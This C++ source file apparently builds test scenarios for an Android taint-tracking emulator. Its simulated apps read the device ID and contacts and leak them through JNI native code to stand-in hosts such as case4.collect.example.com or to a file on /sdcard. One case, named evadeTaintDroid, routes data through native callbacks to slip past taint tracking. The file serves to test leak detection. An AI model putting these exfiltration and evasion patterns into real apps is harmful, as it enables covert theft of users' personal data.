#include "apps/leak_cases.h"

#include "apps/native_lib_builder.h"

namespace ndroid::apps {

using arm::IP;
using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

namespace {

/// Finds framework pieces used by every scenario.
struct Fw {
  Method* send;
  Method* query_contacts;
  Method* get_device_id;

  explicit Fw(android::Device& d)
      : send(d.framework.network->find_method("send")),
        query_contacts(d.framework.contacts->find_method("queryContacts")),
        get_device_id(d.framework.telephony->find_method("getDeviceId")) {}
};

}  // namespace

// ---------------------------------------------------------------------------
// Case 1: Java source -> native processing -> Java sink.
// ---------------------------------------------------------------------------

void emit_case1(NativeLibBuilder& lib, const android::Device& /*device*/) {
  auto& a = lib.a();

  // jstring process(JNIEnv*, jclass, jstring): identity "processing".
  lib.fn();  // fns[0]
  a.mov(R(0), R(2));
  a.ret();
}

LeakScenario build_case1(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libcase1.so", &emit_case1);

  auto& dvm = device.dvm;
  Fw fw(device);
  dvm::ClassObject* app = dvm.define_class("Lcase1/App;");
  Method* process =
      dvm.define_native(app, "process", "LL", kAccPublic | kAccStatic,
                        fns[0]);

  CodeBuilder cb;
  cb.invoke(fw.get_device_id, {})
      .move_result(0)
      .invoke(process, {0})
      .move_result(1)
      .const_string(2, "case1.collect.example.com")
      .invoke(fw.send, {2, 1})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "case1.collect.example.com",
                      "Java source -> native -> Java sink (case 1)"};
}

// ---------------------------------------------------------------------------
// Case 1': the native library stores the secret; a later JNI call hands it
// back to Java through a new String object (QQPhoneBook's structure).
// ---------------------------------------------------------------------------

void emit_case1_prime(NativeLibBuilder& lib, const android::Device& device) {
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr new_utf = device.jni.fn("NewStringUTF");
  const GuestAddr strcpy_fn = device.libc.fn("strcpy");

  // Data is placed after the code; reserve the label positions first by
  // assembling code that references fixed addresses computed up front.
  // Layout: [storeSecret][getPostUrl][buf 256]
  // Two-pass trick: buffer address depends only on code size, so assemble
  // with a placeholder... keep it simple: put the buffer FIRST.
  const GuestAddr buf = lib.buffer(256);

  // void storeSecret(JNIEnv*, jclass, jstring)
  lib.fn();  // fns[0]
  a.push({R(4), R(5), LR});
  a.mov(R(4), R(0));      // env
  a.mov(R(1), R(2));      // jstring
  a.mov(R(0), R(4));
  a.mov_imm(R(2), 0);
  a.call(get_utf);        // r0 = C string
  a.mov(R(1), R(0));
  a.mov_imm32(R(0), buf);
  a.call(strcpy_fn);      // strcpy(buf, p)
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), PC});

  // jstring getPostUrl(JNIEnv*, jclass)
  lib.fn();  // fns[1]
  a.push({R(4), LR});
  a.mov_imm32(R(1), buf);
  a.call(new_utf);        // NewStringUTF(env, buf) — env already in r0
  a.pop({R(4), PC});
}

LeakScenario build_case1_prime(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libcase1p.so", &emit_case1_prime);

  auto& dvm = device.dvm;
  Fw fw(device);
  dvm::ClassObject* app = dvm.define_class("Lcase1p/App;");
  Method* store = dvm.define_native(app, "storeSecret", "VL",
                                    kAccPublic | kAccStatic, fns[0]);
  Method* get = dvm.define_native(app, "getPostUrl", "L",
                                  kAccPublic | kAccStatic, fns[1]);

  CodeBuilder cb;
  cb.invoke(fw.query_contacts, {})
      .move_result(0)
      .invoke(store, {0})
      .invoke(get, {})
      .move_result(1)
      .const_string(2, "case1p.collect.example.com")
      .invoke(fw.send, {2, 1})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "case1p.collect.example.com",
                      "native intermediate returns secret to Java (case 1')"};
}

// ---------------------------------------------------------------------------
// Case 2: the native code itself writes the secret out (PoC of Fig. 8:
// recordContact -> GetStringUTFChars x3 -> fopen -> fprintf -> fclose).
// ---------------------------------------------------------------------------

void emit_case2(NativeLibBuilder& lib, const android::Device& device) {
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr fopen_fn = device.libc.fn("fopen");
  const GuestAddr fprintf_fn = device.libc.fn("fprintf");
  const GuestAddr fclose_fn = device.libc.fn("fclose");

  const GuestAddr path = lib.cstr("/sdcard/CONTACTS");
  const GuestAddr mode = lib.cstr("w");
  const GuestAddr fmt = lib.cstr("%s %s %s ");

  // jboolean recordContact(JNIEnv*, jclass, jstring id, jstring name,
  //                        jstring email)
  lib.fn();  // fns[0]
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));        // env
  a.mov(R(5), R(2));        // id iref
  a.mov(R(6), R(3));        // name iref
  a.ldr(R(7), SP, 20);      // email iref (5th JNI arg, stacked)
  // id = GetStringUTFChars(env, id, 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(5), R(0));
  // name
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(6), R(0));
  // email
  a.mov(R(0), R(4));
  a.mov(R(1), R(7));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(7), R(0));
  // f = fopen("/sdcard/CONTACTS", "w")
  a.mov_imm32(R(0), path);
  a.mov_imm32(R(1), mode);
  a.call(fopen_fn);
  a.mov(R(4), R(0));        // FILE*
  // fprintf(f, "%s %s %s ", id, name, email)
  a.sub_imm(SP, SP, 8);
  a.str(R(7), SP, 0);
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), fmt);
  a.mov(R(2), R(5));
  a.mov(R(3), R(6));
  a.call(fprintf_fn);
  a.add_imm(SP, SP, 8);
  // fclose(f)
  a.mov(R(0), R(4));
  a.call(fclose_fn);
  a.mov_imm(R(0), 1);
  a.pop({R(4), R(5), R(6), R(7), PC});
}

LeakScenario build_case2(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libcase2.so", &emit_case2);

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/ndroid/demos/Demos;");
  Method* record = dvm.define_native(app, "recordContact", "ZLLL",
                                     kAccPublic | kAccStatic, fns[0]);
  Method* id_src = device.framework.contacts->find_method("getContactId");
  Method* name_src = device.framework.contacts->find_method("getContactName");
  Method* mail_src =
      device.framework.contacts->find_method("getContactEmail");

  CodeBuilder cb;
  cb.invoke(id_src, {})
      .move_result(0)
      .invoke(name_src, {})
      .move_result(1)
      .invoke(mail_src, {})
      .move_result(2)
      .invoke(record, {0, 1, 2})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "/sdcard/CONTACTS",
                      "native writes contacts to a file (case 2)"};
}

// ---------------------------------------------------------------------------
// Case 3: data enters the native context, which pushes it back to Java via
// NewStringUTF + CallStaticVoidMethodA (PoC of Fig. 9: evadeTaintDroid ->
// nativeCallback).
// ---------------------------------------------------------------------------

void emit_case3(NativeLibBuilder& lib, const android::Device& device) {
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr new_utf = device.jni.fn("NewStringUTF");
  const GuestAddr find_class = device.jni.fn("FindClass");
  const GuestAddr get_mid = device.jni.fn("GetStaticMethodID");
  const GuestAddr call_void_a = device.jni.fn("CallStaticVoidMethodA");

  const GuestAddr cls_name = lib.cstr("com/ndroid/demos/Evade");
  const GuestAddr mth_name = lib.cstr("nativeCallback");
  const GuestAddr mth_sig = lib.cstr("(Ljava/lang/String;)V");

  // void evadeTaintDroid(JNIEnv*, jclass, jstring)
  lib.fn();  // fns[0]
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));  // env
  a.mov(R(5), R(2));  // jstring
  // p = GetStringUTFChars(env, jstr, 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  // jstr2 = NewStringUTF(env, p)
  a.mov(R(1), R(0));
  a.mov(R(0), R(4));
  a.call(new_utf);
  a.mov(R(5), R(0));  // new iref
  // cls = FindClass(env, "com/ndroid/demos/Evade")
  a.mov(R(0), R(4));
  a.mov_imm32(R(1), cls_name);
  a.call(find_class);
  a.mov(R(6), R(0));
  // mid = GetStaticMethodID(env, cls, "nativeCallback", sig)
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov_imm32(R(2), mth_name);
  a.mov_imm32(R(3), mth_sig);
  a.call(get_mid);
  a.mov(R(7), R(0));
  // CallStaticVoidMethodA(env, cls, mid, {jstr2})
  a.sub_imm(SP, SP, 8);
  a.str(R(5), SP, 0);
  a.mov(R(0), R(4));
  a.mov(R(1), R(6));
  a.mov(R(2), R(7));
  a.mov(R(3), SP);
  a.call(call_void_a);
  a.add_imm(SP, SP, 8);
  a.pop({R(4), R(5), R(6), R(7), PC});
}

LeakScenario build_case3(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libcase3.so", &emit_case3);

  auto& dvm = device.dvm;
  Fw fw(device);
  dvm::ClassObject* app = dvm.define_class("Lcom/ndroid/demos/Evade;");

  // void nativeCallback(String): Java sends the data out.
  CodeBuilder cb_callback;
  cb_callback.const_string(0, "case3.collect.example.com")
      .invoke(fw.send, {0, 2})
      .return_void();
  dvm.define_method(app, "nativeCallback", "VL", kAccPublic | kAccStatic, 3,
                    cb_callback.take());

  Method* evade = dvm.define_native(app, "evadeTaintDroid", "VL",
                                    kAccPublic | kAccStatic, fns[0]);
  Method* concat = device.framework.string_ops->find_method("concat");
  Method* get_operator =
      device.framework.telephony->find_method("getNetworkOperator");

  CodeBuilder cb;
  cb.invoke(fw.get_device_id, {})
      .move_result(0)
      .invoke(get_operator, {})
      .move_result(1)
      .invoke(concat, {0, 1})
      .move_result(2)
      .invoke(evade, {2})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 3, cb.take());
  return LeakScenario{entry, "case3.collect.example.com",
                      "native returns secret to Java via callback (case 3)"};
}

// ---------------------------------------------------------------------------
// Case 4: the native code pulls sensitive data out of the Java context
// itself (CallStaticObjectMethod on a source) and leaks it natively.
// ---------------------------------------------------------------------------

void emit_case4(NativeLibBuilder& lib, const android::Device& device) {
  auto& a = lib.a();
  const GuestAddr find_class = device.jni.fn("FindClass");
  const GuestAddr get_mid = device.jni.fn("GetStaticMethodID");
  const GuestAddr call_obj_a = device.jni.fn("CallStaticObjectMethodA");
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr socket_fn = device.libc.fn("socket");
  const GuestAddr connect_fn = device.libc.fn("connect");
  const GuestAddr send_fn = device.libc.fn("send");
  const GuestAddr strlen_fn = device.libc.fn("strlen");

  const GuestAddr tel_name = lib.cstr("android/telephony/TelephonyManager");
  const GuestAddr mth_name = lib.cstr("getDeviceId");
  const GuestAddr host = lib.cstr("case4.collect.example.com");

  // void exfiltrate(JNIEnv*, jclass)
  lib.fn();  // fns[0]
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov(R(4), R(0));  // env
  // cls = FindClass(env, "android/telephony/TelephonyManager")
  a.mov_imm32(R(1), tel_name);
  a.call(find_class);
  a.mov(R(5), R(0));
  // mid = GetStaticMethodID(env, cls, "getDeviceId", 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm32(R(2), mth_name);
  a.mov_imm(R(3), 0);
  a.call(get_mid);
  // jstr = CallStaticObjectMethodA(env, cls, mid, nullptr)
  a.mov(R(2), R(0));
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(3), 0);
  a.call(call_obj_a);
  a.mov(R(7), R(0));
  // p = GetStringUTFChars(env, jstr, 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(7));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(5), R(0));  // p
  // fd = socket(2, 1, 0)
  a.mov_imm(R(0), 2);
  a.mov_imm(R(1), 1);
  a.mov_imm(R(2), 0);
  a.call(socket_fn);
  a.mov(R(6), R(0));
  // connect(fd, host, 80)
  a.mov_imm32(R(1), host);
  a.mov_imm(R(2), 80);
  a.call(connect_fn);
  // n = strlen(p)
  a.mov(R(0), R(5));
  a.call(strlen_fn);
  a.mov(R(2), R(0));
  // send(fd, p, n)
  a.mov(R(0), R(6));
  a.mov(R(1), R(5));
  a.call(send_fn);
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), R(6), R(7), PC});
}

LeakScenario build_case4(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libcase4.so", &emit_case4);

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcase4/App;");
  Method* exfil = dvm.define_native(app, "exfiltrate", "V",
                                    kAccPublic | kAccStatic, fns[0]);
  CodeBuilder cb;
  cb.invoke(exfil, {}).return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 1, cb.take());
  return LeakScenario{entry, "case4.collect.example.com",
                      "native pulls secret from Java and leaks it (case 4)"};
}

std::vector<std::pair<std::string, LeakScenario (*)(android::Device&)>>
all_cases() {
  return {
      {"case 1", &build_case1},   {"case 1'", &build_case1_prime},
      {"case 2", &build_case2},   {"case 3", &build_case3},
      {"case 4", &build_case4},
  };
}

}  // namespace ndroid::apps
